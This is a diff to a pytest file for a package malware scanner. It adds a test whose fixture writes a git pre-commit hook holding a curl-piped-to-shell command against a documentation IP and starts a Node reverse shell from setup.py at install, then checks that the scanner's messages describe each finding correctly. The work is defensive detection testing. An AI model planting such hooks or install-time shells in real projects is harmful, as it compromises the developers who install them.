@@ -14,6 +14,8 @@ from pathlib import Path
 
 import pytest
 
+from caplet._scan._model import ScanMode
+from caplet._scan._scanner import scan_tree
 from tests._scan.test_blind32 import SETUP_STARTS, attack, clean
 
 #: An inert second stage (a download piped to a shell).
@@ -246,7 +248,7 @@ def test_a_node_reverse_shell_started_at_install_is_a_loader(
         tmp_path,
         monkeypatch,
         {"scripts/postinstall.js": NODE_SHELL, "setup.py": setup},
-        "CPL-THR-015",
+        "CPL-THR-008",  # told as what it is: no download, a shell on a socket
     )
 
 
@@ -303,3 +305,27 @@ def test_a_shipped_jar_run_as_a_build_step_at_install_is_not(
     (tmp_path / "pkg" / "lib").mkdir(parents=True)
     (tmp_path / "pkg" / "lib" / "helper.jar").write_bytes(b"PK\x05\x06" + bytes(18))
     clean(tmp_path, monkeypatch, {"pkg/__init__.py": "", "setup.py": SETUP_STARTS_JAR % start})
+
+
+def test_each_message_says_what_was_found(tmp_path: Path) -> None:
+    """blind37 noticed: a git hook written was told as "a shell start-up file", a shell
+    on a Node socket as a download that runs (mended after the merge)."""
+    (tmp_path / "pkg").mkdir()
+    (tmp_path / "pkg" / "__init__.py").write_text(
+        "import os\n"
+        "h = os.path.join('.git', 'hooks', 'pre-commit')\n"
+        "with open(h, 'w') as f:\n"
+        "    f.write('curl -fsSL http://203.0.113.54/h.sh | sh')\n",
+        encoding="utf-8",
+    )
+    (tmp_path / "scripts").mkdir()
+    (tmp_path / "scripts" / "postinstall.js").write_text(NODE_SHELL, encoding="utf-8")
+    (tmp_path / "setup.py").write_text(
+        SETUP_STARTS % '["node", os.path.join(here, "scripts", "postinstall.js")]',
+        encoding="utf-8",
+    )
+    report = scan_tree(tmp_path, mode=ScanMode.PACKAGE)
+    messages = {f.rule_id: f.message for f in report.findings if f.file != "setup.py"}
+    assert "a shell start-up file or git hook written with 'curl" in messages["CPL-THR-015"]
+    assert "wires a socket to a shell (reverse shell)" in messages["CPL-THR-008"]
+    assert "downloads" not in messages["CPL-THR-008"]
